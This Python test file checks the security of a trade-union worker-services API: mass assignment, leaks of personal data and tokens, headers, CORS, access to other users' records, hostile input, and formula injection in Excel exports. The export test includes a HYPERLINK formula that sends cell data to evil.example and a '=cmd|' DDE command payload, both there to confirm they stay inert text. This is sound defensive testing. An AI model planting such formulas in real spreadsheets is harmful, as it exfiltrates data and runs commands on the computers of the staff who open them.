"""Hostile callers: mass assignment, leaks of personal data and secrets, headers, CORS, BOLA,
input no database can store, formulas in exports.

Who may call which route is the authorization matrix's job
(tests/test_authz_matrix.py); these tests look at what an authenticated but
hostile worker can do with the routes they may call, and at what the service
lets slip in responses, headers and logs.
"""
from __future__ import annotations

import datetime as dt
import io
import logging
import re

import pytest

from service.common import clock
from service.common.validators import check_digit
from tests.breakfast.helpers import quick_staff_token
from tests.conftest import build_app
from tests.helpers import bearer, bind_phone, error_code, login_worker, make_org, outcome, staff_token
from wechat import fake

# Monday 2 March 2026, 06:00 in Yangzhou: breakfast is being served, slots are bookable.
NOW = clock.local(2026, 3, 2, 6, 0)


def id_number(region: str = "321002", born: str = "19850315", seq: str = "123") -> str:
    """A valid 18-character resident ID (seq's last digit odd = male)."""
    first = region + born + seq
    return first + check_digit(first)


def me(client, token) -> dict:
    return client.get("/api/v1/me", headers=bearer(token)).get_json()


class World:
    """An organization with a station, a breakfast point, a lawyer's slot; staff tokens."""

    def __init__(self, app, client):
        self.app, self.client = app, client
        self.org = make_org(app, "扬州市总工会")
        self.admin = quick_staff_token(app, "admin", None)
        h = bearer(self.admin)
        resp = client.post("/api/v1/admin/stations", headers=h, json={
            "code": "SEC-1", "name": "安全驿站", "address": "扬州市文昌中路 1 号", "lat": 32.394, "lng": 119.413,
            "amenities": ["water"], "opening_hours": "24h", "organization_id": self.org})
        assert resp.status_code == 201, resp.get_json()
        self.station = resp.get_json()["id"]
        resp = client.post("/api/v1/admin/breakfast/points", headers=h, json={
            "name": "文昌中路爱心早餐点", "address": "扬州市文昌中路 118 号", "lat": 32.39452, "lng": 119.43631,
            "serving_start": "05:30", "serving_end": "08:30", "daily_quota": 100, "organization_id": self.org})
        assert resp.status_code == 201, resp.get_json()
        self.point = resp.get_json()["id"]
        self.scene = client.get(f"/api/v1/admin/breakfast/points/{self.point}/qr", headers=h).get_json()["scene"]
        resp = client.post("/api/v1/admin/legal-aid/providers", headers=h, json={
            "name": "王律师", "kind": "lawyer", "organization_id": self.org, "firm": "江苏某某律师事务所"})
        assert resp.status_code == 201, resp.get_json()
        self.lawyer = resp.get_json()["id"]
        starts = NOW + dt.timedelta(days=1, hours=3)
        resp = client.post("/api/v1/admin/legal-aid/slots", headers=h, json={
            "provider_id": self.lawyer, "starts_at": starts.isoformat(),
            "ends_at": (starts + dt.timedelta(hours=1)).isoformat(), "capacity": 5, "mode": "offline",
            "location": "市总工会法律服务室"})
        assert resp.status_code == 201, resp.get_json()
        self.slot = resp.get_json()["slot"]["id"]

    def roster(self, *entries: tuple[str, str, str]) -> None:
        """Roster rows (name, phone, id_number)."""
        lines = ["姓名,手机号,单位,身份证号"] + [f"{n},{p},扬州市环境卫生管理处,{i}" for n, p, i in entries]
        resp = self.client.post("/api/v1/admin/breakfast/roster/import", headers=bearer(self.admin),
                                data={"file": (io.BytesIO("\r\n".join(lines).encode()), "roster.csv"),
                                      "organization_id": str(self.org)},
                                content_type="multipart/form-data")
        assert resp.status_code == 200 and resp.get_json()["errors"] == [], resp.get_json()

    def application(self, token, number: str, phone: str = "13800138000", **extra):
        body = {"name": "张三", "gender": "male", "id_number": number, "phone": phone, "occupation": "courier",
                "employer": "顺丰", "work_region": "广陵区", "organization_id": self.org, "consent": True}
        body.update(extra)
        return self.client.post("/api/v1/enrollment/applications", json=body, headers=bearer(token))

    def booking(self, token, **extra):
        body = {"slot_id": self.slot, "topic": "wage_arrears", "description": "老板拖欠三个月工资"}
        body.update(extra)
        return self.client.post("/api/v1/legal-aid/bookings", json=body, headers=bearer(token))

    def eligible(self, name: str, phone: str) -> str:
        self.roster((f"职工{name}", phone, ""))
        token = login_worker(self.client, name)
        bind_phone(self.client, token, phone)
        resp = self.client.post("/api/v1/breakfast/eligibility/claim", headers=bearer(token))
        assert resp.status_code == 200, resp.get_json()
        return token


@pytest.fixture
def world(app, client):
    clock.freeze(NOW)
    return World(app, client)


# --- mass assignment ------------------------------------------------------------------------

def _refused(resp, field: str) -> None:
    assert resp.status_code == 422, (field, resp.status_code, resp.get_json())
    assert error_code(resp) == "validation_error"
    assert field in resp.get_json()["error"]["details"]["fields"], (field, resp.get_json())


def test_fields_a_worker_must_not_set_are_refused_by_every_worker_body(app, client, world, monkeypatch):
    # fifteen phone bindings by one worker within the hour: more than the per-worker limit allows
    monkeypatch.setitem(app.config, "RATELIMIT_PHONE", "100 per hour")
    alice = world.eligible("alice", "13952710001")
    bob = login_worker(client, "bob")
    bob_id = me(client, bob)["id"]
    smuggled = {"status": "approved", "member_no": "0001-2026-000001", "roles": ["admin"], "worker_id": bob_id,
                "id": 1, "user_id": bob_id, "reviewed_by": "admin", "organization": {"id": 1}}
    number = id_number()

    for field, value in smuggled.items():
        _refused(world.application(alice, number, **{field: value}), field)
        _refused(world.booking(alice, **{field: value}), field)
        _refused(client.post("/api/v1/breakfast/checkins", headers=bearer(alice),
                             json={"scene": world.scene, field: value}), field)
        _refused(client.post(f"/api/v1/stations/{world.station}/reports", headers=bearer(alice),
                             json={"kind": "closed", field: value}), field)
        _refused(client.post("/api/v1/auth/wechat/phone", headers=bearer(alice),
                             json={"code": "phone-13952710009", field: value}), field)
    for field, value in {"phone": "13952710009", "slot": {"capacity": 99}, "capacity": 99, "point_id": 99,
                         "serving_date": "2026-01-01", "checked_in_at": "2026-01-01T06:00:00+08:00",
                         "eligible": True}.items():
        _refused(client.post("/api/v1/auth/wechat/phone", headers=bearer(alice),
                             json={"code": "phone-13952710001", field: value}), field)
        _refused(world.booking(alice, **{field: value}), field)
        _refused(client.post("/api/v1/breakfast/checkins", headers=bearer(alice),
                             json={"scene": world.scene, field: value}), field)

    # nothing of the refused requests was written
    assert client.get("/api/v1/enrollment/applications/mine", headers=bearer(alice)).get_json()["total"] == 0
    assert client.get("/api/v1/legal-aid/bookings/mine", headers=bearer(alice)).get_json()["total"] == 0
    assert client.get("/api/v1/breakfast/checkins/mine", headers=bearer(alice)).get_json()["total"] == 0
    assert me(client, alice)["phone"] == "139****0001"

    # the same bodies without the smuggled fields go through, as the worker's own and pending
    resp = world.application(alice, number)
    assert resp.status_code == 201 and resp.get_json()["status"] == "pending"
    assert resp.get_json()["member_no"] is None
    resp = world.booking(alice)
    assert resp.status_code == 201 and resp.get_json()["status"] == "booked"
    resp = client.post("/api/v1/breakfast/checkins", headers=bearer(alice), json={"scene": world.scene})
    assert resp.status_code == 201, resp.get_json()
    assert client.get("/api/v1/breakfast/checkins/mine", headers=bearer(bob)).get_json()["total"] == 0
    assert client.get("/api/v1/me/data", headers=bearer(bob)).get_json()["enrollment"]["applications"] == []


def test_bodies_sent_to_bodiless_worker_actions_are_ignored(app, client, world):
    alice = login_worker(client, "alice")
    bind_phone(client, alice, "13952710001")
    bob = login_worker(client, "bob")
    bob_id = me(client, bob)["id"]
    application = world.application(alice, id_number()).get_json()["id"]
    booking = world.booking(alice).get_json()["id"]

    resp = client.post(f"/api/v1/enrollment/applications/{application}/withdraw", headers=bearer(alice),
                       json={"status": "approved", "member_no": "0001-2026-000001", "worker_id": bob_id})
    assert resp.status_code == 200 and resp.get_json()["status"] == "withdrawn"
    assert resp.get_json()["member_no"] is None
    resp = client.post(f"/api/v1/legal-aid/bookings/{booking}/cancel", headers=bearer(alice),
                       json={"status": "completed", "outcome": "advised", "worker_id": bob_id})
    assert resp.status_code == 200 and resp.get_json()["status"] == "cancelled"
    assert resp.get_json()["outcome"] is None
    # a worker cannot claim alice's roster entry by naming her phone (bob has none bound)
    world.roster(("职工甲", "13952710001", ""))
    resp = client.post("/api/v1/breakfast/eligibility/claim", headers=bearer(bob),
                       json={"worker_id": bob_id, "phone": "13952710001", "eligible": True})
    assert resp.status_code == 409 and resp.get_json()["error"]["code"] == "phone_required", resp.get_json()
    assert me(client, bob)["breakfast_eligible"] is False
    assert outcome(client.get("/api/v1/enrollment/membership", headers=bearer(alice))) == (404, "not_a_member")


# --- personal data and secrets never leak ------------------------------------------------------

def _xlsx_text(data: bytes) -> str:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data), read_only=True)
    return "\n".join(" ".join("" if v is None else str(v) for v in row)
                     for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))


def _body_text(resp) -> str:
    if resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":
        return _xlsx_text(resp.data)
    return resp.get_data(as_text=True)


def test_no_response_or_log_line_carries_personal_data_session_keys_or_tokens(app, client, world, caplog):
    caplog.set_level(logging.DEBUG)  # the root logger: every library's debug output is captured too
    bodies: list[tuple[str, str]] = []  # (what, text) of every response that must show nothing

    def call(method, path, token=None, secret_ok=False, **kwargs):
        resp = client.open(path, method=method, headers=bearer(token) if token else {}, **kwargs)
        if not secret_ok:
            bodies.append((f"{method} {path}", _body_text(resp)))
        return resp

    alice_id_number, roster_id_number = id_number(seq="135"), id_number(born="19790704", seq="246")
    bad_id_number = alice_id_number[:-1] + ("0" if alice_id_number[-1] != "0" else "1")
    bound_phone, form_phone, contact_phone = "13952718801", "13852718802", "13752718803"
    world.roster(("王环卫", bound_phone, roster_id_number))

    # the worker: login, phone, breakfast, enrollment, legal aid
    resp = call("POST", "/api/v1/auth/wechat/login", json={"code": "dev-secalice.1"}, secret_ok=True)
    assert resp.status_code == 200
    login_body = resp.get_data(as_text=True)
    alice = resp.get_json()["token"]
    # a WeChat failure is logged (warnings from the gateway and the error handler): those lines too stay clean
    assert outcome(call("POST", "/api/v1/auth/wechat/login", json={"code": "busy-secalice"})) == (
        503, "wechat_unavailable")
    assert call("POST", "/api/v1/auth/wechat/phone", alice, json={"code": f"phone-{bound_phone}"}).status_code == 200
    assert call("POST", "/api/v1/breakfast/eligibility/claim", alice).status_code == 200
    assert call("POST", "/api/v1/breakfast/checkins", alice, json={"scene": world.scene}).status_code == 201
    assert outcome(call("POST", "/api/v1/breakfast/checkins", alice, json={"scene": world.scene})) == (
        409, "already_checked_in")
    resp = call("POST", "/api/v1/enrollment/applications", alice, json={
        "name": "张三", "gender": "male", "id_number": bad_id_number,
        "phone": form_phone, "occupation": "courier", "employer": "顺丰", "work_region": "广陵区",
        "organization_id": world.org, "consent": True})
    assert outcome(resp) == (422, "validation_error")  # a wrong check digit: the message must not repeat the number
    assert "id_number" in resp.get_json()["error"]["details"]["fields"]
    application = call("POST", "/api/v1/enrollment/applications", alice, json={
        "name": "张三", "gender": "male", "id_number": alice_id_number.lower(), "phone": form_phone,
        "occupation": "courier", "employer": "顺丰", "work_region": "广陵区", "organization_id": world.org,
        "consent": True})
    assert application.status_code == 201, application.get_json()
    application = application.get_json()["id"]
    resp = call("POST", "/api/v1/enrollment/applications", alice, json={
        "name": "张三", "gender": "male", "id_number": alice_id_number, "phone": form_phone,
        "occupation": "courier", "employer": "顺丰", "work_region": "广陵区", "organization_id": world.org,
        "consent": True})
    assert outcome(resp) == (409, "application_pending")
    booking = call("POST", "/api/v1/legal-aid/bookings", alice, json={
        "slot_id": world.slot, "topic": "wage_arrears", "description": "老板拖欠三个月工资",
        "contact_phone": contact_phone})
    assert booking.status_code == 201, booking.get_json()
    for path in ("/api/v1/me", "/api/v1/enrollment/applications/mine", f"/api/v1/enrollment/applications/{application}",
                 "/api/v1/legal-aid/bookings/mine", "/api/v1/breakfast/checkins/mine?month=2026-03"):
        assert call("GET", path, alice).status_code == 200, path

    # the staff: sign in, review (search by the ID number and by the phone), approve, export
    resp = call("POST", "/api/v1/auth/staff/login", json={"username": "nobody", "password": "wrong-password"})
    assert outcome(resp) == (401, "invalid_credentials")
    reviewer = staff_token(app, client, "enrollment_reviewer", world.org)
    legal = quick_staff_token(app, "legal_aid_staff", world.org)
    for q in (alice_id_number, form_phone, "张三"):
        resp = call("POST", "/api/v1/admin/enrollment/applications/search", reviewer, json={"q": q})
        assert resp.status_code == 200 and resp.get_json()["total"] == 1, q
    assert call("GET", f"/api/v1/enrollment/applications/{application}", reviewer).status_code == 200
    assert call("POST", f"/api/v1/admin/enrollment/applications/{application}/approve", reviewer).status_code == 200
    assert call("GET", "/api/v1/enrollment/membership", alice).status_code == 200
    resp = call("POST", "/api/v1/admin/enrollment/members.xlsx", reviewer, json={"q": alice_id_number})
    assert resp.status_code == 200 and "张三" in _xlsx_text(resp.data)
    resp = call("GET", "/api/v1/admin/enrollment/members.xlsx", world.admin, query_string={"full": 1},
                secret_ok=True)
    assert resp.status_code == 200 and alice_id_number in _xlsx_text(resp.data)  # the admin's full export
    # the lawyer's views name the worker to call, in full (docs/contract.md §4), and are audit-logged
    resp = call("GET", "/api/v1/admin/legal-aid/bookings", legal, secret_ok=True)
    assert resp.status_code == 200 and resp.get_json()["items"][0]["worker"]["phone"] == contact_phone
    assert call("GET", f"/api/v1/admin/legal-aid/bookings/{booking.get_json()['id']}", legal,
                secret_ok=True).status_code == 200
    resp = call("GET", f"/api/v1/admin/legal-aid/providers/{world.lawyer}/day-sheet.xlsx", legal,
                query_string={"date": (NOW + dt.timedelta(days=1)).date().isoformat()}, secret_ok=True)
    assert resp.status_code == 200 and contact_phone in _xlsx_text(resp.data)
    assert call("POST", "/api/v1/admin/breakfast/roster/search", world.admin,
                json={"q": bound_phone}).status_code == 200
    assert call("GET", "/api/v1/admin/breakfast/report", world.admin,
                query_string={"month": "2026-03"}).status_code == 200
    assert call("GET", "/api/v1/admin/audit-log", world.admin, query_string={"per_page": 100}).status_code == 200

    # the worker's own export shows everything, unmasked (and is the one exception)
    resp = call("GET", "/api/v1/me/data", alice, secret_ok=True)
    mine = resp.get_data(as_text=True)
    assert alice_id_number in mine and form_phone in mine and contact_phone in mine and bound_phone in mine

    session_key = fake.session_key_for("secalice")
    staff_tokens = [reviewer, legal, world.admin]
    secrets = {"ID number": alice_id_number, "roster ID number": roster_id_number, "bad ID number": bad_id_number,
               "bound phone": bound_phone, "form phone": form_phone, "contact phone": contact_phone,
               "WeChat session_key": session_key,
               "worker token": alice, **{f"staff token {i}": t for i, t in enumerate(staff_tokens)}}
    assert session_key not in login_body and session_key not in mine
    leaks = [f"{name} in the response to {what}" for what, text in bodies
             for name, value in secrets.items() if value in text]
    log_text = caplog.text + "\n".join(
        str(r.args) + (r.exc_text or "") for r in caplog.records)
    assert caplog.records, "nothing was logged: the capture is not working"
    leaks += [f"{name} in the log" for name, value in secrets.items() if value in log_text]
    assert leaks == []


def test_wechat_credentials_stay_out_of_debug_logs(app, client, redis_client, caplog):
    caplog.set_level(logging.DEBUG)
    token = login_worker(client, "credentials")
    bind_phone(client, token, "13952718809")
    issued = [t.decode() for t in redis_client.smembers("fakewx:tokens")]
    assert issued, "no WeChat access token was fetched"
    log_text = caplog.text
    assert app.config["WECHAT_SECRET"] not in log_text
    assert not [t for t in issued if t in log_text]


# --- headers ------------------------------------------------------------------------------------

HEADERS = ("X-Content-Type-Options", "X-Frame-Options", "Content-Security-Policy", "Referrer-Policy")


def test_every_kind_of_response_carries_the_security_headers(app, client):
    worker = login_worker(client, "headers")
    responses = {
        "JSON": client.get("/api/v1/organizations"),
        "JSON, signed in": client.get("/api/v1/me", headers=bearer(worker)),
        "401": client.get("/api/v1/me"),
        "404": client.get("/api/v1/no-such-thing"),
        "404 of an id": client.get("/api/v1/enrollment/applications/999999", headers=bearer(worker)),
        "405": client.delete("/api/v1/organizations"),
        "422": client.post("/api/v1/auth/wechat/login", json={"code": ""}),
        "400": client.post("/api/v1/auth/wechat/login", data="{not json", content_type="application/json"),
        "OpenAPI document": client.get("/api/v1/openapi.json"),
        "docs page": client.get("/api/v1/docs"),
        "console login page": client.get("/console/login"),
        "404 outside the API": client.get("/no-such-page"),
        "liveness": client.get("/livez"),
    }
    for what, resp in responses.items():
        assert resp.status_code < 500, (what, resp.status_code)
        missing = [h for h in HEADERS if not resp.headers.get(h)]
        assert missing == [], (what, missing)
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"]
        if resp.request.path.startswith("/api/"):
            assert "no-store" in resp.headers.get("Cache-Control", ""), what
    assert responses["docs page"].status_code == 200 and responses["console login page"].status_code == 200
    assert responses["405"].status_code == 405 and error_code(responses["405"]) == "method_not_allowed"
    # the docs page and the console load their own scripts and styles, nothing from elsewhere
    for page in ("docs page", "console login page"):
        csp = responses[page].headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "http" not in csp, csp


# --- CORS -----------------------------------------------------------------------------------------

ORIGIN = "https://console.example.org"
PREFLIGHT = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization, content-type"}


def _cors_headers(resp) -> list[str]:
    return [h for h in resp.headers.keys() if h.lower().startswith("access-control-")]


def test_cors_is_closed_by_default(app, client):
    for origin in (ORIGIN, "https://evil.example", "null", "http://localhost"):
        resp = client.get("/api/v1/organizations", headers={"Origin": origin})
        assert resp.status_code == 200 and _cors_headers(resp) == [], origin
        resp = client.options("/api/v1/auth/staff/login", headers={"Origin": origin, **PREFLIGHT})
        assert _cors_headers(resp) == [], origin
        resp = client.post("/api/v1/auth/staff/login", headers={"Origin": origin},
                           json={"username": "nobody", "password": "x"})
        assert _cors_headers(resp) == [], origin


def test_cors_opens_only_for_a_listed_origin(sqlite_url, redis_server, fake_wechat_url, redis_client):
    from tests.conftest import _migrate, clean

    listed = build_app(sqlite_url, redis_server.url, fake_wechat_url, CORS_ORIGINS=f"{ORIGIN}, https://b.example.org")
    _migrate(listed)  # the tables exist whether or not another test built them first
    clean(listed, redis_client)
    client = listed.test_client()
    resp = client.get("/api/v1/organizations", headers={"Origin": ORIGIN})
    assert resp.headers["Access-Control-Allow-Origin"] == ORIGIN
    assert "Origin" in resp.headers.get("Vary", "")
    assert "Access-Control-Allow-Credentials" not in resp.headers  # bearer tokens, never cookies
    resp = client.options("/api/v1/auth/staff/login", headers={"Origin": ORIGIN, **PREFLIGHT})
    assert resp.status_code in (200, 204)
    assert resp.headers["Access-Control-Allow-Origin"] == ORIGIN
    assert "POST" in resp.headers["Access-Control-Allow-Methods"]
    assert "authorization" in resp.headers["Access-Control-Allow-Headers"].lower()
    for origin in ("https://evil.example", "https://console.example.org.evil.example", "http://console.example.org",
                   "null"):
        assert _cors_headers(client.get("/api/v1/organizations", headers={"Origin": origin})) == [], origin
        resp = client.options("/api/v1/auth/staff/login", headers={"Origin": origin, **PREFLIGHT})
        assert _cors_headers(resp) == [], origin


# --- BOLA: one worker, another's records ---------------------------------------------------------------

# Worker routes taking an id, and what the id names.  Public resources (a station) are
# not a worker's own; every other id-taking worker route must be listed here.
OWN_RECORDS = {"application_id": "application", "booking_id": "booking", "report_id": "arrears_report"}
PUBLIC_IDS = {"station_id"}


def _worker_id_routes(app):
    routes = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.startswith("/api/v1/") or rule.rule.startswith(("/api/v1/admin/", "/api/v1/docs")):
            continue
        if not rule.arguments:
            continue
        unknown = rule.arguments - set(OWN_RECORDS) - PUBLIC_IDS
        assert not unknown, f"{rule.rule}: add {sorted(unknown)} to OWN_RECORDS or PUBLIC_IDS"
        if rule.arguments & set(OWN_RECORDS):
            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                routes.append((method, rule.rule))
    return routes


def test_a_worker_never_reaches_another_workers_records(app, client, world):
    alice = world.eligible("alice", "13952710001")
    bob = world.eligible("bob", "13952710002")
    own = {"application": world.application(alice, id_number()).get_json()["id"],
           "booking": world.booking(alice, contact_phone="13952710001").get_json()["id"],
           "arrears_report": client.post("/api/v1/arrears/reports", headers=bearer(alice), json={
               "employer_name": "某某建筑公司", "work_address": "文昌中路工地", "organization_id": world.org,
               "period_from": "2025-01", "period_to": "2025-02", "amount_owed": 3000, "workers_affected": 1,
               "description": "老板拖欠两个月工资"}).get_json()["id"]}
    resp = client.post("/api/v1/breakfast/checkins", headers=bearer(alice), json={"scene": world.scene})
    assert resp.status_code == 201
    alice_before = client.get("/api/v1/me/data", headers=bearer(alice)).get_json()

    routes = _worker_id_routes(app)
    assert ("POST", "/api/v1/legal-aid/bookings/<int:booking_id>/cancel") in routes
    assert ("POST", "/api/v1/enrollment/applications/<int:application_id>/withdraw") in routes
    for method, rule in routes:
        path = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(own[OWN_RECORDS[m.group(1)]]), rule)
        resp = client.open(path, method=method, headers=bearer(bob), json={} if method != "GET" else None)
        assert outcome(resp) in {(403, "forbidden"), (404, "not_found")}, (method, path, outcome(resp))
        assert "张三" not in resp.get_data(as_text=True) and "拖欠" not in resp.get_data(as_text=True)

    # Bob's lists and data hold nothing of Alice's
    for path in ("/api/v1/enrollment/applications/mine", "/api/v1/legal-aid/bookings/mine",
                 "/api/v1/breakfast/checkins/mine"):
        assert client.get(path, headers=bearer(bob)).get_json()["total"] == 0, path
    assert outcome(client.get("/api/v1/enrollment/membership", headers=bearer(bob))) == (404, "not_a_member")
    bob_data = \
        client.get("/api/v1/me/data", headers=bearer(bob)).get_data(as_text=True)
    assert "13952710001" not in bob_data and "张三" not in bob_data
    # …and Alice's records are as she left them
    assert client.get("/api/v1/me/data", headers=bearer(alice)).get_json() == alice_before
    assert client.get(f"/api/v1/enrollment/applications/{own['application']}",
                      headers=bearer(alice)).get_json()["status"] == "pending"
    assert client.get(f"/api/v1/legal-aid/bookings/{own['booking']}",
                      headers=bearer(alice)).get_json()["status"] == "booked"
    # Bob's own check-in still works: Alice's did not count against him
    resp = client.post("/api/v1/breakfast/checkins", headers=bearer(bob), json={"scene": world.scene})
    assert resp.status_code == 201


# --- hostile input: never a 500, on either database -------------------------------------------------

def test_text_no_database_can_store_is_a_422_not_a_500(app, client, world):
    """NUL characters (PostgreSQL text cannot hold them), lone surrogates (not UTF-8),
    the calendar's ends and ids past the INTEGER columns: the fuzzer runs on SQLite
    only, so these are checked here on both databases."""
    worker = login_worker(client, "hostile")
    h, w = bearer(world.admin), bearer(worker)
    point = {"name": "早餐点", "address": "地址", "lat": 32.39, "lng": 119.43, "serving_start": "05:30",
             "serving_end": "08:30", "daily_quota": 10}
    requests_ = [
        ("POST", "/api/v1/admin/organizations", h, {"name": "工会\x00"}, "name"),
        ("POST", "/api/v1/admin/organizations", h, '{"name": "\\ud800工会"}', "name"),
        ("POST", "/api/v1/admin/breakfast/points", h, {**point, "address": "文昌路\x00"}, "address"),
        ("POST", "/api/v1/admin/stations", h, {"code": "N-1", "name": "驿站\x00", "address": "地址", "lat": 32.39,
                                              "lng": 119.41, "amenities": [], "opening_hours": "24h"}, "name"),
        ("POST", "/api/v1/auth/staff/login", {}, {"username": "admin\x00", "password": "x"}, "username"),
        ("POST", "/api/v1/auth/staff/login", {}, '{"username": "\\udfff", "password": "x"}', "username"),
        ("POST", f"/api/v1/stations/{world.station}/reports", w, {"kind": "other", "comment": "坏了\x00"},
         "comment"),
        ("POST", "/api/v1/admin/organizations", h,
         {"name": "工会", "occupations": [[[[[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]]]]}, "occupations"),
        ("GET", "/api/v1/admin/audit-log?action=a%00", h, None, "action"),
        ("GET", "/api/v1/admin/enrollment/applications?q=%E5%BC%A0%00", h, None, "q"),
        ("GET", "/api/v1/admin/breakfast/roster?q=139%00", h, None, "q"),
        ("GET", "/api/v1/admin/audit-log?since=0001-01-01T00:00:00", h, None, "since"),
        ("GET", "/api/v1/admin/audit-log?until=9999-12-31T23:59:59-12:00", h, None, "until"),
        ("GET", "/api/v1/admin/enrollment/applications?submitted_to=9999-12-31", h, None, "submitted_to"),
        ("GET", "/api/v1/admin/enrollment/members.xlsx?joined_from=0001-01-01T00:00:00", h, None, "joined_from"),
        ("GET", "/api/v1/stations?updated_since=0001-01-01T00:00:00", {}, None, "updated_since"),
        ("GET", "/api/v1/admin/breakfast/points?organization_id=99999999999999999999", h, None, "organization_id"),
        ("GET", "/api/v1/admin/breakfast/report?point_id=99999999999999999999", h, None, "point_id"),
        ("POST", "/api/v1/admin/organizations", h, {"name": "工会", "parent_id": 2**63}, "parent_id"),
        ("POST", "/api/v1/admin/breakfast/points", h, {**point, "organization_id": 2**40}, "organization_id"),
    ]
    for method, path, headers, body, field in requests_:
        kwargs = {}
        if isinstance(body, str):
            kwargs = {"data": body.encode(), "content_type": "application/json"}
        elif body is not None:
            kwargs = {"json": body}
        resp = client.open(path, method=method, headers=headers, **kwargs)
        assert outcome(resp) == (422, "validation_error"), (method, path, resp.get_data(as_text=True)[:300])
        named = resp.get_json()["error"]["details"]["fields"]
        assert [k for k in named if k.split(".")[0] == field], (path, resp.get_json())
    # a scanned code is judged by the check-in rules: any bad scene is qr_invalid
    resp = client.post("/api/v1/breakfast/checkins", headers=w, json={"scene": "ab\x00cd"})
    assert resp.status_code == 422 and error_code(resp) == "qr_invalid"
    # a spreadsheet cell with NUL characters: the row is read without them
    roster = "姓名,手机号,单位\r\n王\x00环卫,13952710001,扬州市环卫处\x00\r\n".encode()
    resp = client.post("/api/v1/admin/breakfast/roster/import", headers=h,
                       data={"file": (io.BytesIO(roster), "roster.csv"), "organization_id": str(world.org)},
                       content_type="multipart/form-data")
    assert resp.status_code == 200 and resp.get_json()["created"] == 1, resp.get_json()
    entries = client.get("/api/v1/admin/breakfast/roster", headers=h).get_json()["items"]
    assert [e["name"] for e in entries] == ["王环卫"]


def test_deeply_nested_json_is_a_400_not_a_500(client):
    resp = client.post("/api/v1/auth/wechat/login", data="[" * 2000 + "]" * 2000, content_type="application/json")
    assert resp.status_code == 400 and error_code(resp) == "bad_request"


# --- exports: what a worker typed stays text ---------------------------------------------------------

def test_exports_never_turn_a_workers_text_into_a_formula(app, client, world):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
    alice = login_worker(client, "formula")
    application = world.application(alice, id_number(), employer=formula, work_region="=1+1")
    assert application.status_code == 201, application.get_json()
    reviewer = quick_staff_token(app, "enrollment_reviewer", world.org)
    approve = client.post(f"/api/v1/admin/enrollment/applications/{application.get_json()['id']}/approve",
                          headers=bearer(reviewer))
    assert approve.status_code == 200
    assert world.booking(alice, description="=cmd|'/c calc'!A1 工资\x1b被拖欠").status_code == 201
    legal = quick_staff_token(app, "legal_aid_staff", world.org)
    exports = [
        client.get("/api/v1/admin/enrollment/members.xlsx", headers=bearer(reviewer)),
        client.get(f"/api/v1/admin/legal-aid/providers/{world.lawyer}/day-sheet.xlsx", headers=bearer(legal),
                   query_string={"date": (NOW + dt.timedelta(days=1)).date().isoformat()}),
    ]
    texts = []
    for resp in exports:
        assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
        sheet = load_workbook(io.BytesIO(resp.data)).worksheets[0]
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert [c.value for c in cells if c.data_type == "f"] == []
        texts += [str(c.value) for c in cells]
    assert formula in texts and "=1+1" in texts
    assert any(t.startswith("=cmd|") and "工资被拖欠" in t for t in texts)  # the control character dropped
